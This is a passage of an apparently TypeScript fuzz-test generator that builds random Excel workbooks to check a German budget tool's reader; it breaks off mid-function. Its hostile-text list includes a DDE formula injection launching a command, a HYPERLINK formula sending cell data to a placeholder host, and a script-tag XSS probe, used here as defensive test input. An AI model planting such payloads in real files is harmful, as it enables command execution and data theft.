/**
 * Random and hostile workbooks for the fuzz test (tests/integration/fuzz.test.ts) and the nightly run
 * (scripts/fuzz.ts). A workbook is generated as a model first – every cell knows what the reader must make
 * of it (empty, usable, unusable) – and then written with ExcelJS, as Excel stores it. The oracle in
 * `checkCase` runs the product's whole path (open → read → check → report) and compares.
 *
 * The expectations follow DESIGN.md, not the reader's code: a cell in a column the product reads is either
 * empty, usable (no finding may name it) or unusable (a finding must name exactly its sheet and cell).
 */
import fc from 'fast-check';
import ExcelJS from 'exceljs';
import { D, type Dec } from '../../src/domain/money';
import { checkCoverage } from '../../src/domain/coverage';
import { DEFAULT_ENTGELTTABELLE } from '../../src/domain/defaults';
import type { Finding } from '../../src/domain/findings';
import type { CheckResult } from '../../src/domain/result';
import type { TableKey } from '../../src/domain/model';
import { a1, columnLetter, WorkbookUnusableError } from '../../src/workbook/port';
import { combineFindings, readWorkbookModel, type ReadResult } from '../../src/workbook/read';
import { buildReport } from '../../src/workbook/report';
import {
  DECKUNG,
  MASSNAHMEN,
  PARAMETER,
  PARAMETER_NAMES,
  PLANANSAETZE,
  STELLEN,
  headerKey,
} from '../../src/workbook/schema';
import type { ColumnSpec, TableSpec } from '../../src/workbook/schema';
import { templateBatch } from '../../src/workbook/template';
import { XlsxWorkbook } from '../../src/xlsx/xlsx-workbook';
import { ExcelWorkbook } from '../../src/excel/excel-workbook';
import type { FakeWorkbook } from './fake-excel';
import { fakeFromTemplate } from './fake-from-template';

// ---------------------------------------------------------------------------------------------- model

/** What the reader must make of a cell. */
export type Expect =
  /** empty: no value, no finding (an empty required cell of a used row is turned into `bad` below) */
  | 'empty'
  /** usable: no finding may name this cell */
  | 'ok'
  /** unusable: a finding must name exactly this cell */
  | 'bad'
  /** not judged cell by cell (e.g. a Stufe outside the pay table: the engine's business) */
  | 'any';

export interface FuzzCell {
  value: ExcelJS.CellValue;
  numFmt?: string;
  expect: Expect;
  /** For usable cells of typed columns: the value the model must hold (ISO date, decimal string, …). */
  parsed?: string | number | boolean;
  note: string;
}

export type Kind =
  | 'text'
  | 'stufe'
  | 'jahr'
  | 'share'
  | 'number'
  | 'amount'
  | 'date'
  | 'dateOrOpen'
  | 'bool'
  | 'enum'
  | 'vermerk'
  /** a column the product does not read (user column, duplicate, generated Jahreskosten, Quelle) */
  | 'unread';

export interface FuzzColumn {
  header: string;
  /** Field of the schema, undefined for a user column. */
  field?: string;
  kind: Kind;
  required: boolean;
  values?: readonly string[];
  /** A second column with the same (or an alias) header: a finding at its header cell. */
  duplicate: boolean;
  cells: FuzzCell[];
}

export interface FuzzMerge {
  /** Index into `columns` (layout order) of the first column, rows 0-based data rows. */
  col: number;
  row: number;
  cols: number;
  rows: number;
}

export interface FuzzTable {
  key: TableKey;
  sheet: string;
  required: boolean;
  columns: FuzzColumn[];
  rowCount: number;
  merges: FuzzMerge[];
  /** An Excel table (ListObject) by the schema's name, on a sheet of another name, anywhere on it. */
  listObject?: { name: string; row: number; col: number };
}

/** 1-based row and column of a table's header cell. */
const originOf = (t: FuzzTable) => ({ row: t.listObject?.row ?? 1, col: t.listObject?.col ?? 1 });
/** Address of a cell of the table: data row r (0-based, -1 = header), column j (0-based). */
const cellAt = (t: FuzzTable, r: number, j: number) => a1(originOf(t).row + 1 + r, originOf(t).col + j);

export interface FuzzWorkbook {
  tables: FuzzTable[];
}

// ------------------------------------------------------------------------------------- cell makers

const cell = (
  value: ExcelJS.CellValue,
  expect: Expect,
  note: string,
  extra: Partial<FuzzCell> = {},
): FuzzCell => ({
  value,
  expect,
  note,
  ...extra,
});

const ERRORS = ['#N/A', '#DIV/0!', '#VALUE!', '#REF!', '#NAME?', '#NUM!', '#NULL!'];
const DATE_FORMAT = 'dd.mm.yyyy';

const emptyArb: fc.Arbitrary<FuzzCell> = fc.constantFrom(
  cell(null, 'empty', 'leer'),
  cell('', 'empty', 'leerer Text'),
  cell('   ', 'empty', 'Leerzeichen'),
  cell('\u00a0', 'empty', 'geschütztes Leerzeichen'),
  cell(' \u00a0\t\u00a0 ', 'empty', 'Leerraum gemischt'),
  cell({ formula: 'IF(TRUE,"","")', result: '' }, 'empty', 'Formel → ""'),
);

const errorArb: fc.Arbitrary<FuzzCell> = fc
  .tuple(fc.constantFrom(...ERRORS), fc.boolean())
  .map(([error, asFormula]) =>
    asFormula
      ? cell({ formula: 'NA()', result: { error } } as ExcelJS.CellFormulaValue, 'bad', `Formel → ${error}`)
      : cell({ error } as ExcelJS.CellErrorValue, 'bad', `Fehlerwert ${error}`),
  );

/**
 * Text that survives the xlsx container: no control characters, lone surrogates, U+FFFE/FFFF (not allowed
 * in XML), and no "_x0041_" escapes (ExcelJS writes them unescaped and reads them back as "A").
 */
function allowed(ch: string): boolean {
  const c = ch.codePointAt(0)!;
  if (c < 0x20) return c === 0x09 || c === 0x0a || c === 0x0d;
  return c !== 0xfffe && c !== 0xffff && (c < 0xd800 || c > 0xdfff);
}
const safeText = (s: string) =>
  Array.from(s)
    .filter(allowed)
    .join('')
    .replace(/_x[0-9a-f]{4}_/gi, '_x_');

/** Hostile but harmless text: formula look-alikes, markup, quotes, emoji, a long text. */
const HOSTILE_TEXT = [
  '=HYPERLINK("http://example.invalid/?q="&A1,"Klick")',
  '=1+1',
  '+49 6104 1234',
  '-Umbau-',
  '@Kämmerei',
  "=cmd|' /C calc'!A0",
  '<script>alert(1)</script>',
  '&amp; &lt;',
  'O\'Brien "Zitat"',
  'Straße Äöü ß',
  '😀 Emoji 👩‍💼',
  'Zeile 1\nZeile 2',
  'x'.repeat(3000),
  // as long as Excel allows in a cell: never copied whole into a message; a longer text made of it (e.g.
  // "Summe " + Dezernat) is cut to the limit by the adapters
  `${'Lang '.repeat(6552)}Ende`.padEnd(32767, '!'),
];

const textLike = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 30, unit: 'grapheme' }).map(safeText) },
  { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
);

/** Leading/trailing spaces and no-break spaces around a text: every reader trims them. */
const padArb = fc.constantFrom('', '', ' ', '  ', '\u00a0', ' \u00a0', '\t');

/** Wraps a text cell in the shapes Excel stores text in: plain, rich text, hyperlink, formula result. */
function textShapes(
  base: fc.Arbitrary<{ text: string; expect: Expect; parsed?: string | number | boolean; note: string }>,
): fc.Arbitrary<FuzzCell> {
  return fc
    .tuple(
      base,
      padArb,
      padArb,
      fc.constantFrom('plain', 'plain', 'plain', 'rich', 'link', 'formula'),
      fc.nat(1000),
    )
    .map(([b, left, right, shape, cut]) => {
      const text = `${left}${b.text}${right}`;
      const expect: Expect = text.trim() === '' ? 'empty' : b.expect;
      const extra = { parsed: b.parsed };
      switch (shape) {
        case 'rich': {
          // split between characters (never inside a surrogate pair)
          const chars = Array.from(text);
          const k = chars.length < 2 ? 0 : 1 + (cut % (chars.length - 1));
          const runs = [
            { text: chars.slice(0, k).join('') },
            { font: { bold: true }, text: chars.slice(k).join('') },
          ].filter((r) => r.text);
          if (runs.length === 0) return cell('', expect, `${b.note} (leer)`);
          return cell({ richText: runs }, expect, `${b.note} als Rich Text`, extra);
        }
        case 'link':
          if (text === '') return cell('', expect, b.note);
          return cell({ text, hyperlink: 'https://example.invalid/' }, expect, `${b.note} als Link`, extra);
        case 'formula':
          // ExcelJS decodes a formula's text result twice ("&amp;lt;" in the file → "<" instead of "&lt;"):
          // a known limitation of the library, so such texts are only written as plain text here
          if (/&[a-z]*;/.test(text)) return cell(text, expect, b.note, extra);
          return cell(
            {
              formula: `TRIM(" ")&"${text.replace(/"/g, '""').slice(0, 200)}"`,
              result: text,
            },
            expect,
            `${b.note} als Formelergebnis`,
            extra,
          );
        default:
          return cell(text, expect, b.note, extra);
      }
    });
}

/** A number cell, plain or as a formula result. */
const numberCell = (n: number, expect: Expect, note: string, parsed?: string | number, numFmt?: string) =>
  fc.boolean().map((asFormula) =>
    asFormula
      ? cell({ formula: `0+${n}`, result: n }, expect, `${note} (Formel)`, {
          parsed,
          numFmt,
        })
      : cell(n, expect, note, { parsed, numFmt }),
  );

const decString = (d: Dec) => d.toString();

// --- German and English number text

function group(intPart: string, sep: string): string {
  return intPart.replace(/\B(?=(\d{3})+(?!\d))/g, sep);
}

/** An amount with two decimals written the ways people type it (value in cents). */
function amountText(cents: bigint, style: number): string {
  const negative = cents < 0n;
  const abs = negative ? -cents : cents;
  const int = (abs / 100n).toString();
  const frac = (abs % 100n).toString().padStart(2, '0');
  const sign = negative ? (style % 2 === 0 ? '-' : '−') : '';
  switch (style % 6) {
    case 0:
      return `${sign}${group(int, '.')},${frac}`; // 1.234,56
    case 1:
      return `${sign}${group(int, ',')}.${frac}`; // 1,234.56
    case 2:
      return `${sign}${int},${frac} €`; // 1234,56 €
    case 3:
      return `${sign}${group(int, '.')},${frac} EUR`;
    case 4:
      return `${sign}${group(int, '\u00a0')},${frac}`; // 1 234,56 with no-break spaces
    default:
      return `€ ${sign}${int}.${frac}`;
  }
}

/** Numbers: realistic amounts, huge, tiny, negative; as numbers, German or English text. */
function numberArb(opts: { min?: number; allowNegative: boolean }): fc.Arbitrary<FuzzCell> {
  const okRange = (d: Dec) =>
    (opts.allowNegative ? true : d.gte(0)) && (opts.min === undefined || d.gte(opts.min));
  const asNumber = fc
    .oneof(
      fc.integer({ min: -2_000_000, max: 2_000_000 }).map((c) => c / 100),
      fc.constantFrom(0, 1e15, -1e15, 1e300, -1e300, Number.MAX_VALUE, 5e-324, 0.1 + 0.2, 70000),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
    )
    .chain((n) => {
      const d = new D(String(n));
      return numberCell(n, okRange(d) ? 'ok' : 'bad', `Zahl ${n}`, decString(d));
    });
  const asText = fc
    .tuple(fc.bigInt({ min: -100_000_000_000n, max: 100_000_000_000n }), fc.nat(11))
    .chain(([cents, style]) => {
      const d = new D(cents.toString()).div(100);
      const text = amountText(cents, style);
      return textShapes(
        fc.constant({
          text,
          expect: okRange(d) ? 'ok' : 'bad',
          parsed: decString(d),
          note: `Zahltext „${text}“`,
        }),
      );
    });
  const wrong = fc.oneof(
    textShapes(
      fc
        .constantFrom('abc', 'zwölf', '12abc', '1.2.3,4,5', '(1.234,56)', 'n/a', '--5', '€')
        .map((t) => ({ text: t, expect: 'bad', note: `kein Zahltext „${t}“` })),
    ),
    fc.constantFrom(cell(true, 'bad', 'WAHR'), cell(false, 'bad', 'FALSCH')),
    fc.constant(cell(new Date(Date.UTC(2027, 0, 1)), 'bad', 'Datum statt Zahl', { numFmt: DATE_FORMAT })),
  );
  return fc.oneof(
    { weight: 4, arbitrary: asNumber },
    { weight: 3, arbitrary: asText },
    { weight: 2, arbitrary: wrong },
  );
}

/** Whole numbers in [min, max] are usable; fractions, text, huge values and outside values are not. */
function intArb(
  min: number,
  max: number,
  realistic: fc.Arbitrary<number>,
  outside: Expect,
): fc.Arbitrary<FuzzCell> {
  const judge = (n: number): Expect => (n >= min && n <= max ? 'ok' : Math.abs(n) > 1e9 ? 'bad' : outside);
  return fc.oneof(
    { weight: 5, arbitrary: realistic.chain((n) => numberCell(n, judge(n), `Ganzzahl ${n}`, n)) },
    {
      weight: 2,
      arbitrary: fc
        .integer({ min: -100, max: 100_000 })
        .chain((n) => numberCell(n, judge(n), `Ganzzahl ${n}`, n)),
    },
    {
      weight: 2,
      arbitrary: realistic.chain((n) =>
        textShapes(
          fc
            .constantFrom(`${n}`, `${n},0`, `${n}.00`)
            .map((t) => ({ text: t, expect: judge(n), parsed: n, note: `Ganzzahltext „${t}“` })),
        ),
      ),
    },
    {
      weight: 2,
      arbitrary: fc.oneof(
        fc
          .constantFrom(2.5, 1e12, -1e12, 1e300, 0.1)
          .chain((n) => numberCell(n, 'bad', `keine Ganzzahl ${n}`)),
        textShapes(
          fc
            .constantFrom('drei', '3a', 'III', '2,5')
            .map((t) => ({ text: t, expect: 'bad', note: `„${t}“` })),
        ),
        fc.constantFrom(
          cell(true, 'bad', 'WAHR'),
          cell(new Date(Date.UTC(2027, 5, 1)), 'bad', 'Datum', { numFmt: DATE_FORMAT }),
        ),
      ),
    },
  );
}

/** Stellenanteil: 0 < x ≤ 1, as number, "50 %", "0,5". */
const shareArb: fc.Arbitrary<FuzzCell> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.integer({ min: -1500, max: 1500 }).chain((k) => {
      const d = new D(k).div(1000);
      const expect: Expect = d.gt(0) && d.lte(1) ? 'ok' : 'bad';
      return fc.oneof(
        numberCell(d.toNumber(), expect, `Anteil ${d.toString()}`, decString(d)),
        textShapes(
          fc
            .constantFrom(
              `${d.toString().replace('.', ',')}`,
              `${d.mul(100).toString().replace('.', ',')} %`,
              `${d.mul(100).toString()}%`,
            )
            .map((t) => ({ text: t, expect, parsed: decString(d), note: `Anteiltext „${t}“` })),
        ),
      );
    }),
  },
  {
    weight: 1,
    arbitrary: fc.oneof(
      textShapes(
        fc
          .constantFrom('halb', 'voll', '%', '50 % %')
          .map((t) => ({ text: t, expect: 'bad', note: `„${t}“` })),
      ),
      fc.constantFrom(
        cell(true, 'bad', 'WAHR'),
        cell(-1e300, 'bad', 'riesig negativ'),
        cell(1e300, 'bad', 'riesig'),
      ),
    ),
  },
);

// --- dates

const DAY = 86_400_000;
const EPOCH = Date.UTC(1899, 11, 30);

/** Excel's serial → ISO date in the 1900 date system (serial 1 = 01.01.1900, 60 = the phantom 29.02.1900). */
export function excelSerialToIso(serial: number): string | undefined {
  const day = Math.floor(serial + 1e-9);
  if (day < 1 || day > 2958465 || day === 60) return undefined;
  // Excel counts the phantom 29.02.1900: before it, day 1 is 01.01.1900; from 61 (01.03.1900) on, day 2 is
  const base = day < 60 ? Date.UTC(1899, 11, 31) : EPOCH;
  return new Date(base + day * DAY).toISOString().slice(0, 10);
}

function isoOf(y: number, m: number, d: number): string {
  return `${String(y).padStart(4, '0')}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}`;
}

function validYmd(y: number, m: number, d: number): boolean {
  const t = new Date(Date.UTC(2000, m - 1, d));
  t.setUTCFullYear(y);
  return t.getUTCFullYear() === y && t.getUTCMonth() === m - 1 && t.getUTCDate() === d;
}

/** Dates: serial numbers (as Excel stores them), text TT.MM.JJJJ, ISO text; 1900 and 9999 included. */
const dateArb: fc.Arbitrary<FuzzCell> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .oneof(
        fc.integer({ min: 45000, max: 48000 }),
        fc.integer({ min: 1, max: 400 }),
        fc.integer({ min: 2958000, max: 2958465 }),
        fc.constantFrom(1, 59, 60, 61, 2958465, 2958466, 0, -1, 3_000_000),
      )
      .chain((day) =>
        fc.tuple(fc.constantFrom(0, 0, 0.25, 0.75, 0.999), fc.boolean()).chain(([time, formatted]) => {
          const serial = day + time;
          const iso = excelSerialToIso(serial);
          return numberCell(
            serial,
            iso ? 'ok' : 'bad',
            `Seriendatum ${serial}`,
            iso,
            formatted ? DATE_FORMAT : undefined,
          );
        }),
      ),
  },
  {
    weight: 3,
    arbitrary: fc
      .tuple(
        fc.oneof(fc.integer({ min: 2020, max: 2035 }), fc.constantFrom(1899, 1900, 9999, 10000)),
        fc.integer({ min: 1, max: 13 }),
        fc.integer({ min: 0, max: 31 }),
        fc.boolean(),
      )
      .chain(([y, m, d, iso]) => {
        const ok = y >= 1900 && y <= 9999 && validYmd(y, m, d);
        const text = iso
          ? isoOf(y, m, d)
          : `${String(d).padStart(2, '0')}.${String(m).padStart(2, '0')}.${y}`;
        return textShapes(
          fc.constant({
            text,
            expect: ok ? 'ok' : 'bad',
            parsed: ok ? isoOf(y, m, d) : undefined,
            note: `Datumstext „${text}“`,
          }),
        );
      }),
  },
  {
    weight: 1,
    arbitrary: fc.oneof(
      textShapes(
        fc
          .constantFrom('morgen', '1.1.27', '2027', '31/12/2027', '01.01.2027 12:00')
          .map((t) => ({ text: t, expect: 'bad', note: `„${t}“` })),
      ),
      fc.constantFrom(cell(true, 'bad', 'WAHR')),
    ),
  },
);

const dateOrOpenArb: fc.Arbitrary<FuzzCell> = fc.oneof(
  { weight: 5, arbitrary: dateArb },
  {
    weight: 1,
    arbitrary: textShapes(
      fc
        .constantFrom('Termin offen', 'offen', 'TERMIN OFFEN', 'Termin\u00a0offen')
        .map((t) => ({ text: t, expect: 'ok', note: `„${t}“` })),
    ),
  },
);

const boolArb: fc.Arbitrary<FuzzCell> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc
      .constantFrom(
        ['Ja', true],
        ['Nein', false],
        ['ja', true],
        ['NEIN', false],
        ['x', true],
        ['-', false],
        ['yes', true],
        ['Falsch', false],
        ['WAHR', true],
        ['1', true],
        ['0', false],
        ['j', true],
      )
      .chain(([t, b]) =>
        textShapes(
          fc.constant({
            text: t,
            expect: 'ok',
            parsed: b,
            note: `„${t as string}“`,
          }),
        ),
      ),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      cell(true, 'ok', 'WAHR', { parsed: true }),
      cell(false, 'ok', 'FALSCH', { parsed: false }),
      cell(1, 'ok', '1', { parsed: true }),
      cell(0, 'ok', '0', { parsed: false }),
    ),
  },
  {
    weight: 1,
    arbitrary: fc.oneof(
      textShapes(
        fc
          .constantFrom('vielleicht', 'jein', 'ja!', 'Nein.')
          .map((t) => ({ text: t, expect: 'bad', note: `„${t}“` })),
      ),
      fc.constantFrom(
        cell(2, 'bad', '2'),
        cell(new Date(Date.UTC(2027, 0, 1)), 'bad', 'Datum', { numFmt: DATE_FORMAT }),
      ),
    ),
  },
);

function enumArb(values: readonly string[]): fc.Arbitrary<FuzzCell> {
  const variants = (v: string) => [
    v,
    v.toUpperCase(),
    v.toLowerCase(),
    v.replace(/ß/g, 'ss'),
    v.replace(/ /g, '\u00a0'),
    v.replace(/ /g, '  '),
  ];
  return fc.oneof(
    {
      weight: 4,
      arbitrary: fc
        .constantFrom(...values)
        .chain((v) =>
          textShapes(fc.constantFrom(...variants(v)).map((t) => ({ text: t, expect: 'ok', note: `„${t}“` }))),
        ),
    },
    {
      weight: 1,
      arbitrary: fc.oneof(
        textShapes(
          fc
            .constantFrom(...values.map((v) => `${v}x`), 'Sonstiges', '?', '=A1')
            .map((t) => ({ text: t, expect: 'bad', note: `„${t}“` })),
        ),
        fc.constantFrom(cell(5, 'bad', '5'), cell(true, 'bad', 'WAHR')),
      ),
    },
  );
}

const vermerkArb: fc.Arbitrary<FuzzCell> = fc.oneof(
  {
    weight: 3,
    arbitrary: textShapes(
      fc
        .constantFrom('kw', 'KW', 'ku', 'kw 31.12.2028', 'ku ab 2029', 'kw\u00a030.06.2029')
        .map((t) => ({ text: t, expect: 'ok', note: `„${t}“` })),
    ),
  },
  {
    weight: 1,
    arbitrary: fc.oneof(
      textShapes(
        fc
          .constantFrom('kwx', 'k.w.', 'wegfall', '=kw')
          .map((t) => ({ text: t, expect: 'bad', note: `„${t}“` })),
      ),
      fc.constantFrom(cell(5, 'bad', '5')),
    ),
  },
);

/** Text columns: anything but an error value is usable (numbers, dates and booleans read as text). */
function textArb(pool: readonly string[]): fc.Arbitrary<FuzzCell> {
  return fc.oneof(
    {
      weight: 6,
      arbitrary: textShapes(fc.constantFrom(...pool).map((t) => ({ text: t, expect: 'ok', note: `„${t}“` }))),
    },
    {
      weight: 2,
      arbitrary: textShapes(
        textLike.map((t) => ({ text: t, expect: 'ok', note: `Text „${t.slice(0, 30)}“` })),
      ),
    },
    {
      weight: 1,
      arbitrary: fc.oneof(
        fc.integer({ min: -5, max: 200 }).map((n) => cell(n, 'ok', `Zahl ${n}`)),
        fc.constantFrom(
          cell(true, 'ok', 'WAHR'),
          cell(new Date(Date.UTC(2027, 2, 1)), 'ok', 'Datum', { numFmt: DATE_FORMAT }),
        ),
      ),
    },
  );
}

/** Anything at all, for columns the product does not read. */
const anyArb: fc.Arbitrary<FuzzCell> = fc
  .oneof(textArb(['Notiz', 'siehe Vermerk']), errorArb, numberArb({ allowNegative: true }), dateArb, emptyArb)
  .map((c) => ({ ...c, expect: 'any' }));

// ----------------------------------------------------------------------------------------- tables

const POOLS = {
  stelle: ['S-1', 'S-2', 'S-3', 'S-4', '1.01', '101'],
  massnahme: ['M-1', 'M-2', 'M-3'],
  haushalt: ['HH-1', 'HH-2', 'HH-3'],
  gruppe: [...DEFAULT_ENTGELTTABELLE.rows.keys()].slice(0, 12).concat(['E 9b', 'e9a', 'A 11', 'E99']),
  szenario: ['Basis', 'Variante A', 'Variante B'],
  words: ['Sachbearbeitung', 'Leitung', 'Bauhof', 'FB 1', 'Dezernat I', 'Amt für Digitalisierung'],
};

const serialOf = (y: number, m: number, d: number) => (Date.UTC(y, m - 1, d) - EPOCH) / DAY;

/**
 * Plain, plausible values of a field, for the rows that make the engine compute something (a new position
 * with grade, step and start in the plan years; cover rows with amounts; budget lines per year).
 */
function plainArb(spec: TableSpec, col: ColumnSpec): fc.Arbitrary<FuzzCell> {
  const f = col.field;
  const pick = <T>(...xs: T[]) => fc.constantFrom(...xs);
  const text = (...xs: string[]) => pick(...xs).map((t) => cell(t, 'ok', `„${t}“`));
  const date = fc
    .tuple(fc.integer({ min: 2026, max: 2031 }), fc.integer({ min: 1, max: 12 }), pick(1, 15, 28))
    .map(([y, m, d]) =>
      cell(serialOf(y, m, d), 'ok', `Datum ${d}.${m}.${y}`, { numFmt: DATE_FORMAT, parsed: isoOf(y, m, d) }),
    );
  const optional = (a: fc.Arbitrary<FuzzCell>) =>
    fc.oneof({ weight: 2, arbitrary: a }, { weight: 1, arbitrary: fc.constant(cell(null, 'empty', 'leer')) });
  if (col.generated) return anyArb;
  if (spec.key === 'Stellen' && f === 'vermerk') return optional(text('kw'));
  if (spec.key === 'Stellen' && f === 'dienstverhaeltnis') return text('Beschäftigte');
  if (spec.key === 'Stellen' && f === 'besetzt')
    return pick(['Ja', true], ['Nein', false]).map(([t, b]) =>
      cell(t, 'ok', `„${t as string}“`, { parsed: b as boolean }),
    );
  if (spec.key === 'Massnahmen' && f === 'art')
    return text('Neue Stelle', 'Neue Stelle', 'Höhergruppierung', 'Stelle streichen', 'Sachaufwand');
  if (spec.key === 'Massnahmen' && f === 'status') return optional(text('beantragt'));
  if (spec.key === 'Deckung' && f === 'art')
    return text('Minderaufwand', 'Mehrertrag', 'Stellenwegfall', 'Nichtbesetzung');
  if (spec.key === 'Planansaetze' && f === 'art') return optional(text('Personalaufwand', 'Sachaufwand'));
  switch (col.kind) {
    case 'text':
      if (f === 'nr' || f === 'stellenNr')
        return text(...(spec.key === 'Massnahmen' && f === 'nr' ? POOLS.massnahme : POOLS.stelle));
      if (f === 'massnahmeNr') return text(...POOLS.massnahme);
      if (f === 'haushaltsstelle') return text(...POOLS.haushalt);
      if (f === 'gruppe') return text('E9b', 'E11', 'E13', 'E5');
      if (f === 'szenario') return optional(text('Basis', 'Variante A'));
      return optional(text(...POOLS.words));
    case 'int':
      return f === 'jahr'
        ? fc.integer({ min: 2027, max: 2031 }).map((n) => cell(n, 'ok', `${n}`, { parsed: n }))
        : fc.integer({ min: 1, max: 6 }).map((n) => cell(n, 'ok', `${n}`, { parsed: n }));
    case 'share':
      return optional(pick(1, 0.5, 0.75).map((n) => cell(n, 'ok', `${n}`, { parsed: String(n) })));
    case 'number':
      return (f === 'betrag' || f === 'planansatz' ? optional : (a: fc.Arbitrary<FuzzCell>) => a)(
        fc
          .integer({ min: 1_000, max: 120_000 })
          .map((n) => cell(n, 'ok', `${n}`, { numFmt: '#,##0.00', parsed: String(n) })),
      );
    case 'date':
      return optional(date);
    case 'dateOrOpen':
      return date;
    case 'bool':
      return optional(
        pick(['Nein', false], ['Ja', true]).map(([t, b]) =>
          cell(t, 'ok', `„${t as string}“`, { parsed: b as boolean }),
        ),
      );
    case 'enum':
      return optional(pick(...(col.values ?? ['?'])).map((t) => cell(t, 'ok', `„${t}“`)));
    default:
      return anyArb;
  }
}

/** The generator of each field: mostly realistic values, some hostile, some unusable, some empty. */
function fieldArb(spec: TableSpec, col: ColumnSpec): { kind: Kind; arb: fc.Arbitrary<FuzzCell> } {
  const mix = (kind: Kind, realistic: fc.Arbitrary<FuzzCell>) => ({
    kind,
    arb: fc.oneof(
      { weight: 10, arbitrary: realistic },
      { weight: 2, arbitrary: emptyArb },
      { weight: 1, arbitrary: errorArb },
    ),
  });
  const f = col.field;
  if (col.generated) return { kind: 'unread', arb: anyArb };
  if (spec.key === 'Stellen' && f === 'vermerk') return mix('vermerk', vermerkArb);
  if (spec.key === 'Stellen' && f === 'dienstverhaeltnis')
    return mix('enum', enumArb(['Beschäftigte', 'Beamte', 'Beamter', 'Beamtin', 'Tarifbeschäftigte']));
  switch (col.kind) {
    case 'text': {
      const pool =
        f === 'nr' || f === 'stellenNr'
          ? spec.key === 'Massnahmen' && f === 'nr'
            ? POOLS.massnahme
            : POOLS.stelle
          : f === 'massnahmeNr'
            ? POOLS.massnahme
            : f === 'haushaltsstelle'
              ? POOLS.haushalt
              : f === 'gruppe'
                ? POOLS.gruppe
                : f === 'szenario'
                  ? POOLS.szenario
                  : POOLS.words;
      return mix('text', textArb(pool));
    }
    case 'int':
      return f === 'jahr'
        ? mix('jahr', intArb(1900, 9999, fc.integer({ min: 2026, max: 2032 }), 'bad'))
        : mix('stufe', intArb(1, 6, fc.integer({ min: 1, max: 6 }), 'any'));
    case 'share':
      return mix('share', shareArb);
    case 'number':
      return spec.key === 'Deckung' && f === 'betrag'
        ? mix('amount', numberArb({ allowNegative: false }))
        : mix('number', numberArb({ allowNegative: true }));
    case 'date':
      return mix('date', dateArb);
    case 'dateOrOpen':
      return mix('dateOrOpen', dateOrOpenArb);
    case 'bool':
      return mix('bool', boolArb);
    case 'enum':
      return mix('enum', enumArb(col.values ?? []));
    default:
      return { kind: 'unread', arb: anyArb };
  }
}

/** Header spellings the reader must accept: exact, alias, other case, surrounding (no-break) spaces. */
function headerVariants(col: ColumnSpec): string[] {
  const names = [col.header, ...(col.aliases ?? [])];
  return names.flatMap((n) => [n, n.toUpperCase(), ` ${n}\u00a0`]);
}

const USER_HEADERS = ['Bemerkung', 'Notiz intern', 'Kostenstelle alt', 'Σ', '#', 'Spalte 1', '=SUMME(A:A)'];

export interface GenOptions {
  maxRows: number;
  /** Merges across columns (not kept when columns are shuffled). */
  horizontalMerges: boolean;
  /** Allow a required column to be missing (the workbook may then be unusable). */
  dropRequired: boolean;
}

function tableArb(spec: TableSpec, options: GenOptions): fc.Arbitrary<FuzzTable> {
  const readable = spec.columns.filter((c) => !(spec.key === 'Parameter' && c.field === 'quelle'));
  return fc
    .record({
      rowCount: fc.integer({ min: 0, max: options.maxRows }),
      keep: fc.array(fc.noBias(fc.integer({ min: 0, max: 99 })), {
        minLength: readable.length,
        maxLength: readable.length,
      }),
      headerPick: fc.array(fc.nat(), { minLength: readable.length, maxLength: readable.length }),
      userColumns: fc.array(fc.constantFrom(...USER_HEADERS), { maxLength: 2 }),
      duplicates: fc.array(fc.nat(readable.length - 1), { maxLength: 2 }),
      // a quarter of the tables are Excel tables (ListObjects) somewhere on a sheet of another name
      listObject: fc.oneof(
        { weight: 3, arbitrary: fc.constant(null) },
        {
          weight: 1,
          arbitrary: fc.record({ row: fc.integer({ min: 1, max: 4 }), col: fc.integer({ min: 1, max: 3 }) }),
        },
      ),
    })
    .chain(({ rowCount, keep, headerPick, userColumns, duplicates: dups, listObject }) => {
      // Excel tables allow neither two columns of one name nor merged cells
      const duplicates = listObject ? [] : dups;
      // which schema columns exist: required ones almost always, optional ones mostly
      const present = readable.filter((c, i) =>
        c.required ? (options.dropRequired ? keep[i] > 2 : true) : c.generated ? keep[i] > 60 : keep[i] > 12,
      );
      const cols: {
        spec?: ColumnSpec;
        header: string;
        duplicate: boolean;
        kind: Kind;
        arb: fc.Arbitrary<FuzzCell>;
        plain: fc.Arbitrary<FuzzCell>;
      }[] = [];
      for (const c of present) {
        const { kind, arb } = fieldArb(spec, c);
        const variants = headerVariants(c);
        const header = variants[headerPick[readable.indexOf(c)] % variants.length];
        cols.push({ spec: c, header, duplicate: false, kind, arb, plain: plainArb(spec, c) });
      }
      for (const u of new Set(userColumns))
        cols.push({ header: u, duplicate: false, kind: 'unread', arb: anyArb, plain: anyArb });
      for (const d of new Set(duplicates)) {
        const c = readable[d];
        if (!present.includes(c) || c.generated) continue;
        cols.push({
          spec: c,
          header: c.header.toLowerCase(),
          duplicate: true,
          kind: 'unread',
          arb: anyArb,
          plain: anyArb,
        });
      }
      return fc
        .tuple(
          fc.shuffledSubarray(cols, { minLength: cols.length, maxLength: cols.length }),
          // per row: 0 = left empty in the middle of the table, 1–4 = plausible values only, else anything
          fc.array(fc.noBias(fc.integer({ min: 0, max: 9 })), { minLength: rowCount, maxLength: rowCount }),
        )
        .chain(([order, rowModes]) => {
          // a duplicate column stays behind its original (which one is "first" is not the question here)
          const ordered = order.filter((c) => !c.duplicate).concat(order.filter((c) => c.duplicate));
          return fc
            .tuple(
              ...ordered.map((c) =>
                fc.tuple(
                  ...rowModes.map((mode) =>
                    mode === 0 ? fc.constant(cell(null, 'empty', 'Leerzeile')) : mode <= 4 ? c.plain : c.arb,
                  ),
                ),
              ),
            )
            .chain((columnCells) =>
              fc
                .array(
                  fc.record({
                    col: fc.nat(Math.max(0, ordered.length - 1)),
                    row: fc.nat(Math.max(0, rowCount - 1)),
                    cols: options.horizontalMerges ? fc.integer({ min: 1, max: 2 }) : fc.constant(1),
                    rows: fc.integer({ min: 1, max: 3 }),
                  }),
                  { maxLength: rowCount > 1 && !listObject ? 2 : 0 },
                )
                .map((merges) => ({
                  key: spec.key,
                  sheet: listObject ? `Daten ${spec.sheet}` : spec.sheet,
                  ...(listObject ? { listObject: { name: spec.tableNames[0], ...listObject } } : {}),
                  required: spec.required,
                  rowCount,
